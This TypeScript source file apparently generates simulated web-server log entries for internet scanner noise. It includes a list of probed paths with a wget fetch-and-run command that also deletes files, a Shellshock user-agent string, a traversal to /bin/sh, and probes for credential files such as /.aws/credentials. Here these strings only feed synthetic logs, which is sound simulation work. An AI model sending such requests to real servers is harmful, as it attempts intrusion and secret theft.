import { SECOND_MS } from '../../core/civil-time.js'
import { homeAddress } from '../model/addresses.js'
import { MAX_VISITORS } from '../model/population.js'
import { Random } from '../model/random.js'
import { HOSTS } from '../model/site.js'
import { Arrivals, type Tempo } from './arrivals.js'
import type { TrafficSource, World } from './contract.js'

const AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
  'Go-http-client/1.1',
  'curl/7.88.1',
  'python-requests/2.31.0',
  'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
  'Mozilla/5.0 (X11; Linux x86_64)',
] as const

/** What every address on the net is asked for, whoever it belongs to. */
const PROBED = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-content/plugins/hellopress/wp_filemanager.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/cgi-bin/luci/;stok=/locale',
  '/boaform/admin/formLogin',
  '/actuator/health',
  '/server-status',
  '/phpmyadmin/index.php',
  '/.aws/credentials',
  '/config.json',
  '/owa/auth/logon.aspx',
  '/solr/admin/info/system?wt=json',
  '/?XDEBUG_SESSION_START=phpstorm',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.200/jaws;sh+/tmp/jaws',
] as const

/** First bytes of other protocols, and requests that are none. */
const NO_REQUESTS = [
  '\x16\x03\x01\x01\x17\x01\x00\x01\x13\x03\x03',
  '\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03',
  '\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr',
  'SSH-2.0-Go',
  'MGLNDD_198.18.0.1_443',
  't3 12.1.2',
] as const

/** What the net sends to everybody: scanners that ask once or a few times and go on, and ask for what is not here. */
export class Noise implements TrafficSource {
  readonly #world: World
  readonly #random: Random
  readonly #arrivals: Arrivals
  #now: number

  constructor(world: World, tempo: Tempo, share: number) {
    this.#world = world
    this.#random = new Random(world.seed, 'noise')
    this.#arrivals = new Arrivals(
      new Random(world.seed, 'noise/arrivals'),
      tempo,
      world.startMs,
      share,
      () => 1,
      1,
    )
    this.#now = world.startMs
  }

  advance(untilMs: number): void {
    for (let at = this.#arrivals.next(untilMs, this.#now); at >= 0; at = this.#arrivals.next(untilMs, at)) {
      const client = homeAddress(MAX_VISITORS + 95_000 + this.#random.below(2_300))
      if (this.#random.chance(0.3)) this.#knock(at, client)
      else this.#scan(at, client)
    }
    this.#now = untilMs
  }

  #scan(startMs: number, client: string): void {
    const random = this.#random
    const agent = random.pick(AGENTS)
    let at = startMs
    for (let left = random.chance(0.7) ? 1 : 2 + random.below(5); left > 0; left--) {
      const target = random.chance(0.35) ? '/' : random.pick(PROBED)
      const status = target.startsWith('/?') || target === '/' ? 200 : target.includes('%2e') ? 400 : 404
      const hit = this.#take(
        at,
        client,
        status,
        status === 200 ? this.#world.site.home.bytes : status === 400 ? 226 : 4_512,
      )
      hit.userAgent = agent
      hit.target = target
      // quotes of others are escaped by the server
      if (agent.startsWith('Go-') && random.chance(0.2)) {
        hit.userAgent = `() { :; }; echo "${random.hex(6)}"`
        hit.plain = false
      }
      this.#world.agenda.add(hit)
      at += 200 + Math.round(random.unit() * 3 * SECOND_MS)
    }
  }

  /** A connection without a request that could be read: another protocol, or silence until the time is up. */
  #knock(atMs: number, client: string): void {
    const random = this.#random
    const nginx = this.#world.producer === 'nginx'
    const silent = random.chance(0.3)
    // nginx logs a silent connection not at all, and bytes without a request as an empty one
    if (silent && nginx) return
    const hit = this.#take(atMs, client, silent ? 408 : 400, silent ? 0 : nginx ? 157 : 226)
    hit.request = silent ? undefined : random.pick(NO_REQUESTS)
    hit.plain = false
    hit.method = undefined
    hit.target = undefined
    if (silent) {
      hit.endMs = atMs + 20 * SECOND_MS
      hit.durationMs = 20 * SECOND_MS
    }
    hit.userAgent = undefined
    this.#world.agenda.add(hit)
  }

  #take(atMs: number, client: string, status: number, bytes: number) {
    const hit = this.#world.agenda.take(atMs, 1 + this.#random.below(30))
    hit.client = client
    hit.protocol = 'HTTP/1.1'
    hit.connection = this.#random.word()
    hit.host = HOSTS.shop
    hit.method = 'GET'
    hit.target = '/'
    hit.status = status
    hit.bytes = bytes
    hit.referrer = undefined
    return hit
  }
}
